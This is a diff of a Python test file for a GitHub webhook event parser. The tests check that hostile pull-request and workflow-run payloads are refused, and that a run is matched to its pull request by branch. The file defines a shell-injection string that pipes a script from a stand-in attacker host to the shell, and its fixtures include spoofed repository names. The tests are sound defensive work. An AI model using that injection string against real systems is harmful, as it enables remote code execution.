@@ -5,7 +5,7 @@ from __future__ import annotations
 import json
 import time
 import tracemalloc
-from functools import partial
+from dataclasses import replace
 
 import pytest
 
@@ -21,7 +21,7 @@ from recorded import changed, payload
 PULL, ISSUE, RUN = "pull_request.opened", "issues.opened", "workflow_run.completed"
 SHELL = '"; curl evil.example | sh #'
 HEAD = payload(PULL)["pull_request"]["head"]["sha"]
-read_issue = partial(events.read_issue_event, label="sign-up")
+read_issue = events.read_issue_event
 
 
 # --- Payloads ----------------------------------------------------------------------------------------
@@ -65,7 +65,6 @@ BAD_PULLS = {
     "a mark for a repository": (changed(PULL, repository__full_name="a/b)[x](evil"), "event-repository"),
     "a number beyond all": (changed(PULL, number=2**60, pull_request__number=2**60), "event-number"),
     "a run that goes on": (changed(RUN, action="requested"), "event-action"),
-    "a run of no commit": (changed(RUN, workflow_run__head_sha=SHELL), "event-commit"),
     "a run of no repository": (changed(RUN, workflow_run__head_repository=None), "event-form"),
     "a run of another host": (
         changed(RUN, workflow_run__head_repository__full_name="https://evil.example/a/b"),
@@ -108,14 +107,16 @@ def test_a_hostile_payload_is_refused_by_name(case):
 
 
 def test_the_pull_request_is_found_for_which_a_workflow_ran():
-    """By commit, branch and repository: the payload does not name the one of a fork."""
-    listed = changed("pulls")
-    assert events.read_proposal(changed(RUN), listed) == events.read_proposal(changed(PULL))
+    """By branch and repository, since the payload does not name the one of a fork; and as it stands now, for
+    this run may take the place of one that waits for commits just pushed."""
+    listed, asked = changed("pulls"), events.read_proposal(changed(PULL))
+    assert events.read_proposal(changed(RUN), listed) == asked
+    moved_on = changed("pulls", **{"1__0__head__sha": "2" * 40})
+    assert events.read_proposal(changed(RUN), moved_on) == replace(asked, head="2" * 40)
     assert events.read_proposal(changed(RUN)) is None
 
 
 NOT_THEIRS = {
-    "moved on": {"1__0__head__sha": "2" * 40},
     "another branch of that commit": {"1__0__head__ref": "elsewhere"},
     "another fork of that commit": {"1__0__head__repo__full_name": "eve/charter"},
     "a fork that was deleted": {"1__0__head__repo": None},
